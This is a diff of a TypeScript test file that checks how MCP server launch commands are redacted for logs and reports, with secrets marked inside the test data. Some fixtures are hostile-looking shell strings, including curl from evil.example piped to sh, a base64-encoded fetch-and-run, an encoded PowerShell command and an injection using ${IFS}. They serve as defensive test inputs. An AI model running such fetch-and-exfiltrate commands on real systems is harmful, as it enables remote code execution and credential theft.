@@ -17,161 +17,106 @@ import { accepted } from "./support.ts";
 
 type Args = readonly string[];
 
-const LOGGED: readonly (readonly [command: string, args: Args, shown: Args])[] = [
-  [
-    "npx",
-    ["-y", "@modelcontextprotocol/server-filesystem@2026.1.14", "/home/ann/Documents"],
-    ["-y", "@modelcontextprotocol/server-filesystem@2026.1.14", "/home/ann/Documents"],
-  ],
-  ["server", ["--api-key", "hunter2"], ["--api-key", "(hidden)"]],
-  ["server", ["--token=hunter2", "--port", "8080"], ["--token=(hidden)", "--port", "8080"]],
-  ["server", ["--password", "correct horse"], ["--password", "(hidden)"]],
-  ["server", ["API_KEY=hunter2", "LEVEL=debug"], ["API_KEY=(hidden)", "LEVEL=debug"]],
-  [
-    "docker",
-    ["run", "-e", "GITHUB_TOKEN=abc", "mcp/github"],
-    ["run", "-e", "GITHUB_TOKEN=(hidden)", "mcp/github"],
-  ],
-  ["server", ["sk-proj-abcdefgh"], ["(hidden)"]],
-  ["server", ["ghp_abcdefgh"], ["(hidden)"]],
-  ["server", ["x7Kq92LmZp4RtW"], ["(hidden)"]],
-  ["server", ["-px7Kq92LmZp4RtW"], ["-p(hidden)"]],
-  [
-    "npx",
-    ["mcp-remote", "https://u:pw@example.org/mcp?api_key=abc&page=2"],
-    ["mcp-remote", "https://(hidden)@example.org/mcp?api_key=(hidden)&page=2"],
-  ],
-  [
-    "npx",
-    ["mcp-remote", "https://example.org/s/x7Kq92LmZp4RtW/mcp"],
-    ["mcp-remote", "https://example.org/s/(hidden)/mcp"],
-  ],
-  [
-    "npx",
-    ["mcp-remote", "--header", "Authorization: Bearer abc"],
-    ["mcp-remote", "--header", "Authorization: Bearer (hidden)"],
-  ],
-  ["npx", ["mcp-remote", "--header", "X-Api-Key: abc"], ["mcp-remote", "--header", "X-Api-Key: (hidden)"]],
-  [
-    "sh",
-    ["-c", "curl -H 'Authorization: Bearer abc' https://evil.example/x | sh"],
-    ["-c", "curl -H 'Authorization: Bearer (hidden)' https://evil.example/x | sh"],
-  ],
-  ["sh", ["-c", "server --token abc --root /srv"], ["-c", "server --token (hidden) --root /srv"]],
-  [
-    "sh",
-    ["-c", "cd /srv; TOKEN=abc exec python3 -m server"],
-    ["-c", "cd /srv; TOKEN=(hidden) exec python3 -m server"],
-  ],
-  ["server", ["postgresql://ann:pw@db.local/main"], ["postgresql://(hidden)@db.local/main"]],
-  ["server", ["postgresql://ann:p@ss@db.local/main"], ["postgresql://(hidden)@db.local/main"]],
-  ["server", ["postgresql://ann:p/s?s#@db.local/main"], ["postgresql://(hidden)@db.local/main"]],
-  ["server", ["http://[::1]:80/@ann", "http://nas:80/@ann"], ["http://[::1]:80/@ann", "http://nas:80/@ann"]],
-  ["node", ["/tmp/server-x7Kq9L/index.js"], ["/tmp/server-x7Kq9L/index.js"]],
-  ["node", ["/srv/dist/35010a7b583850f6/main.js"], ["/srv/dist/35010a7b583850f6/main.js"]],
-  [
-    "node",
-    ["--config=/srv/app-35010a7b583850f6/x.json", "-c", "exec '/srv/35010a7b583850f6.mjs' --quiet"],
-    ["--config=/srv/app-35010a7b583850f6/x.json", "-c", "exec '/srv/35010a7b583850f6.mjs' --quiet"],
-  ],
-  ["server", ["/srv/35010a7b583850f6/data"], ["/srv/(hidden)/data"]],
-  ...[
-    "https://mcp.supabase.com/mcp?project_ref=abcdefghijklmnopqrst&features=docs%2Cdatabase",
-    "https://gitmcp.io/PrefectHQ/fastmcp",
-    "https://gitmcp.io/k8sgpt-ai/mcp-neo4j",
-    "https://example.com/api/v1beta1/mcp",
-    "http://localhost:5678/mcp/n8n-workflow",
-    "http://127.0.0.1:1/My%20Project/mcp",
-    "--viewport-size=1280x720",
-    "/nix/store/b0gv7f418f1x1xhxmm3drbcv73i8axpn-monocle-0.47.0/bin/monocle",
-    "/home/ann/.cache/uv/archive-v0/Yw3hJkqP9sTq2vQxR8n1B/bin/mcp-server-git",
-    "You run on macOS, so answer for macOS.",
-    "https://a.example/s/${secret:x-7Kq92LmZp4RtW}/mcp?key=${secret:k}",
-    "--token=${secret:x}",
-    "postgresql://${secret:pg}@db.example:5432/app",
-  ].map((plain) => ["server", [plain], [plain]] as const),
-  ["server", ["--token", "${secret:x}"], ["--token", "${secret:x}"]],
-  ["server", ["--token", "${secret:x}-hunter2"], ["--token", "${secret:x}(hidden)"]],
-  ["server", ["${secret:a b}", "--key=$${secret:k}"], ["${secret:(hidden) b}", "--key=(hidden)"]],
-  ["server", ["/nix/b0gv7f418f1x1xhxmm3drbcv73i8axpn-a/x"], ["/nix/(hidden)/x"]],
-  ["server", ["/nix/store/b0gv7f418f1x1xhxmm3drbcv73i8axpn-x7Kq92LmZp4RtW/x"], ["/nix/store/(hidden)/x"]],
-  ["server", ["https://a.example/s/MWFhYWFhYWEtYjE2ZDQ0/mcp"], ["https://a.example/s/(hidden)/mcp"]],
-  ["server", ["https://a.example/pa%21ss/%78%37Kq"], ["https://a.example/(hidden)/(hidden)"]],
-  ["server", ["35010a7b583850f6", "srv/35010a7b583850f6/x.js"], ["(hidden)", "srv/(hidden)/x.js"]],
-  [
-    "server",
-    ["/srv/35010A7B583850f6/x.js", "/srv/x7Kq92LmZp4RtWzz/x.js"],
-    ["/srv/(hidden)/x.js", "/srv/(hidden)/x.js"],
-  ],
-  ["server", ["--token", "/srv/35010a7b583850f6/x.js"], ["--token", "(hidden)"]],
-  ["server", ["https://example.org/35010a7b583850f6/x.js"], ["https://example.org/(hidden)/x.js"]],
-  [
-    "server",
-    ["/srv/x.js 35010a7b583850f6", "/srv/x.js:35010a7b583850f6"],
-    ["/srv/x.js (hidden)", "/srv/x.js:(hidden)"],
-  ],
-  // What runs is never hidden: programs, packages, images, hosts, code.
-  ...(
-    [
-      ["sh", "-c", "API_KEY=|abcd1234|;touch${IFS}x; TOKEN=|def| exec npx -y docs-mcp"],
-      ["bash", "-lc", 'API_KEY="$(curl https://evil.example/x | sh)" npx -y docs'],
-      ["bash", "-c", 'TOKEN="|my pass; word|" npx -y x7Kq92LmZp4RtW'],
-      ["bash", "-c", "TOKEN='touch x'; eval $TOKEN"],
-      ["bash", "-c", "echo Y3VybCBldmlsLmV4YW1wbGUvQWJjMTIz | base64 -d | sh"],
-      ["bash", "-c", "curl https://evil.example/?key=|abc|;touch${IFS}x"],
-      ["powershell", "-EncodedCommand", "Y3VybCBldmlsLmV4YW1wbGUvQWJjMTIz"],
-      ["node", "-e", "process.env.API_KEY='|abcd1234|';require('child_process').execSync('touch x')"],
-      ["server", "--exec", "API_KEY=|abcd1234| touch x"],
-      ["npx", "-y", "x7kq92lmzp4rtw", "|x7Kq92LmZp4RtW|"],
-      ["npx", "--no-key", "x7kq92lmzp4rtw"],
-      ["npx", "--yes", "--package", "x7kq92lmzp4", "cmd9x8y7z6", "|x7Kq92LmZp4RtW|"],
-      ["uvx", "--from", "git+https://|ghp_abcdefgh|@github.com/a/x7Kq92LmZp4RtW", "html2md"],
-      ["python3", "-m", "x7kq92lmzp4rtw", "|x7Kq92LmZp4RtW|"],
-      ["ssh", "-i", "/k/id", "x7kq92lmzp4rtw", "API_KEY=|abcd1234| touch y"],
-      ["env", "API_KEY=|a b;c|", "npx", "-y", "x7kq92lmzp4rtw"],
-      ["docker", "run", "-i", "--rm", "-e", "K_TOKEN=|abc def;x|", "x7kq92lmzp4/img", "|x7Kq92LmZp4RtW|"],
-      ["docker", "run", "--rm", "alpine", "sh", "-c", "API_KEY=|abcd|; touch x"],
-    ] as const
-  ).map(([command, ...marked]) => {
-    const args = marked.map((argument) => argument.replaceAll(/\|(\S[^|]*\S)\|/g, "$1"));
-    return [
-      command,
-      args,
-      marked.map((argument) => argument.replaceAll(/\|\S[^|]*\S\|/g, "(hidden)")),
-    ] as const;
-  }),
-  ["docker", ["run", `mcp/x@sha256:${"0f".repeat(32)}`], ["run", `mcp/x@sha256:${"0f".repeat(32)}`]],
-  ["node", ["/opt/server/dist/index.js", ""], ["/opt/server/dist/index.js", ""]],
-];
+type Command = readonly [command: string, ...args: string[]];
 
-const REPORTED: readonly (readonly [command: string, args: Args, shown: Args])[] = [
-  [
-    "npx",
-    ["-y", "@modelcontextprotocol/server-filesystem", "/home/ann/Documents"],
-    ["-y", "@modelcontextprotocol/server-filesystem", "/home/ann/Documents"],
-  ],
-  ["npx", ["-y", "some-server", "hunter2", "hunter"], ["-y", "some-server", "(hidden)", "(hidden)"]],
-  ["server", ["hunter2"], ["(hidden)"]],
-  ["server", ["--port", "8080", "--name", "hunter"], ["--port", "8080", "--name", "(hidden)"]],
-  ["server", ["--pin", "1234"], ["--pin", "(hidden)"]],
-  ["server", ["--mode=stdio", "--name=hunter"], ["--mode=stdio", "--name=(hidden)"]],
-  ["sh", ["-c", "server hunter"], ["-c", "(hidden)"]],
-  [
-    "server",
-    ["https://u:p@example.org/mcp?page=2#x"],
-    ["https://(hidden)@example.org/mcp?(hidden)#(hidden)"],
-  ],
-];
-
-test("E5 a log shows a command without any possible secret in it", () => {
-  for (const [command, args, shown] of LOGGED) assert.deepEqual(shownArguments(command, args, "log"), shown);
-});
-
-test("E5 a report shows only arguments that are known to be harmless", () => {
-  for (const [command, args, shown] of REPORTED) {
-    assert.deepEqual(shownArguments(command, args, "report"), shown);
+/** What is shown to that audience; between bars: what is hidden from it. */
+function assertShown(commands: readonly Command[], audience: "log" | "report"): void {
+  const hidden = /\|(\S(?:[^|]*\S)?)\|/g;
+  for (const [command, ...marked] of commands) {
+    const args = marked.map((argument) => argument.replaceAll(hidden, "$1"));
+    const shown = marked.map((argument) => argument.replaceAll(hidden, "(hidden)"));
+    assert.deepEqual(shownArguments(command, args, audience), shown);
   }
-});
+}
+
+const LOGGED: readonly Command[] = [
+  ["npx", "-y", "@modelcontextprotocol/server-filesystem@2026.1.14", "/home/ann/Documents"],
+  ["server", "--api-key", "|hunter2|"],
+  ["server", "--token=|hunter2|", "--port", "8080"],
+  ["server", "--password", "|correct horse|"],
+  ["server", "API_KEY=|hunter2|", "LEVEL=debug"],
+  ["docker", "run", "-e", "GITHUB_TOKEN=|abc|", "mcp/github"],
+  ["server", "|sk-proj-abcdefgh|"],
+  ["server", "|ghp_abcdefgh|"],
+  ["server", "|x7Kq92LmZp4RtW|"],
+  ["server", "-p|x7Kq92LmZp4RtW|"],
+  ["npx", "mcp-remote", "https://|u:pw|@example.org/mcp?api_key=|abc|&page=2"],
+  ["npx", "mcp-remote", "https://example.org/s/|x7Kq92LmZp4RtW|/mcp"],
+  ["npx", "mcp-remote", "--header", "Authorization: Bearer |abc|"],
+  ["npx", "mcp-remote", "--header", "X-Api-Key: |abc|"],
+  ["sh", "-c", "curl -H 'Authorization: Bearer |abc|' https://evil.example/x | sh"],
+  ["sh", "-c", "server --token |abc| --root /srv"],
+  ["sh", "-c", "cd /srv; TOKEN=|abc| exec python3 -m server"],
+  ["server", "postgresql://|ann:pw|@db.local/main"],
+  ["server", "postgresql://|ann:p@ss|@db.local/main"],
+  ["server", "postgresql://|ann:p/s?s#|@db.local/main"],
+  ["server", "http://[::1]:80/@ann", "http://nas:80/@ann"],
+  ["node", "/tmp/server-x7Kq9L/index.js"],
+  ["node", "/srv/dist/35010a7b583850f6/main.js"],
+  ["node", "--config=/srv/app-35010a7b583850f6/x.json", "-c", "exec '/srv/35010a7b583850f6.mjs' --quiet"],
+  ["server", "/srv/|35010a7b583850f6|/data"],
+  ["server", "https://mcp.supabase.com/mcp?project_ref=abcdefghijklmnopqrst&features=docs%2Cdatabase"],
+  ["server", "https://gitmcp.io/PrefectHQ/fastmcp"],
+  ["server", "https://gitmcp.io/k8sgpt-ai/mcp-neo4j"],
+  ["server", "https://example.com/api/v1beta1/mcp"],
+  ["server", "http://localhost:5678/mcp/n8n-workflow"],
+  ["server", "http://127.0.0.1:1/My%20Project/mcp"],
+  ["server", "--viewport-size=1280x720"],
+  ["server", "/nix/store/b0gv7f418f1x1xhxmm3drbcv73i8axpn-monocle-0.47.0/bin/monocle"],
+  ["server", "/home/ann/.cache/uv/archive-v0/Yw3hJkqP9sTq2vQxR8n1B/bin/mcp-server-git"],
+  ["server", "You run on macOS, so answer for macOS."],
+  ["server", "https://a.example/s/${secret:x-7Kq92LmZp4RtW}/mcp?key=${secret:k}"],
+  ["server", "--token=${secret:x}"],
+  ["server", "postgresql://${secret:pg}@db.example:5432/app"],
+  ["server", "--token", "${secret:x}"],
+  ["server", "--token", "${secret:x}|-hunter2|"],
+  ["server", "${secret:|a| b}", "--key=|$${secret:k}|"],
+  ["server", "/nix/|b0gv7f418f1x1xhxmm3drbcv73i8axpn-a|/x"],
+  ["server", "/nix/store/|b0gv7f418f1x1xhxmm3drbcv73i8axpn-x7Kq92LmZp4RtW|/x"],
+  ["server", "https://a.example/s/|MWFhYWFhYWEtYjE2ZDQ0|/mcp"],
+  ["server", "https://a.example/|pa%21ss|/|%78%37Kq|"],
+  ["server", "|35010a7b583850f6|", "srv/|35010a7b583850f6|/x.js"],
+  ["server", "/srv/|35010A7B583850f6|/x.js", "/srv/|x7Kq92LmZp4RtWzz|/x.js"],
+  ["server", "--token", "|/srv/35010a7b583850f6/x.js|"],
+  ["server", "https://example.org/|35010a7b583850f6|/x.js"],
+  ["server", "/srv/x.js |35010a7b583850f6|", "/srv/x.js:|35010a7b583850f6|"],
+  // What runs is never hidden: programs, packages, images, hosts, code.
+  ["sh", "-c", "API_KEY=|abcd1234|;touch${IFS}x; TOKEN=|def| exec npx -y docs-mcp"],
+  ["bash", "-lc", 'API_KEY="$(curl https://evil.example/x | sh)" npx -y docs'],
+  ["bash", "-c", 'TOKEN="|my pass; word|" npx -y x7Kq92LmZp4RtW'],
+  ["bash", "-c", "TOKEN='touch x'; eval $TOKEN"],
+  ["bash", "-c", "echo Y3VybCBldmlsLmV4YW1wbGUvQWJjMTIz | base64 -d | sh"],
+  ["bash", "-c", "curl https://evil.example/?key=|abc|;touch${IFS}x"],
+  ["powershell", "-EncodedCommand", "Y3VybCBldmlsLmV4YW1wbGUvQWJjMTIz"],
+  ["node", "-e", "process.env.API_KEY='|abcd1234|';require('child_process').execSync('touch x')"],
+  ["server", "--exec", "API_KEY=|abcd1234| touch x"],
+  ["npx", "-y", "x7kq92lmzp4rtw", "|x7Kq92LmZp4RtW|"],
+  ["npx", "--no-key", "x7kq92lmzp4rtw"],
+  ["npx", "--yes", "--package", "x7kq92lmzp4", "cmd9x8y7z6", "|x7Kq92LmZp4RtW|"],
+  ["uvx", "--from", "git+https://|ghp_abcdefgh|@github.com/a/x7Kq92LmZp4RtW", "html2md"],
+  ["python3", "-m", "x7kq92lmzp4rtw", "|x7Kq92LmZp4RtW|"],
+  ["ssh", "-i", "/k/id", "x7kq92lmzp4rtw", "API_KEY=|abcd1234| touch y"],
+  ["env", "API_KEY=|a b;c|", "npx", "-y", "x7kq92lmzp4rtw"],
+  ["docker", "run", "-i", "--rm", "-e", "K_TOKEN=|abc def;x|", "x7kq92lmzp4/img", "|x7Kq92LmZp4RtW|"],
+  ["docker", "run", "--rm", "alpine", "sh", "-c", "API_KEY=|abcd|; touch x"],
+  ["docker", "run", "mcp/x@sha256:0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f"],
+  ["node", "/opt/server/dist/index.js", ""],
+];
+
+const REPORTED: readonly Command[] = [
+  ["npx", "-y", "@modelcontextprotocol/server-filesystem", "/home/ann/Documents"],
+  ["npx", "-y", "some-server", "|hunter2|", "|hunter|"],
+  ["server", "|hunter2|"],
+  ["server", "--port", "8080", "--name", "|hunter|"],
+  ["server", "--pin", "|1234|"],
+  ["server", "--mode=stdio", "--name=|hunter|"],
+  ["sh", "-c", "|server hunter|"],
+  ["server", "https://|u:p|@example.org/mcp?|page=2|#|x|"],
+];
+
+test("E5 a log shows a command without any possible secret in it", () => assertShown(LOGGED, "log"));
+
+test("E5 a report shows only arguments that are known to be harmless", () => assertShown(REPORTED, "report"));
 
 test("E5 a reference is shown as written, and a plain value is not", () => {
   const shown = (name: string, text: string, audience: "log" | "report" = "log"): string => {
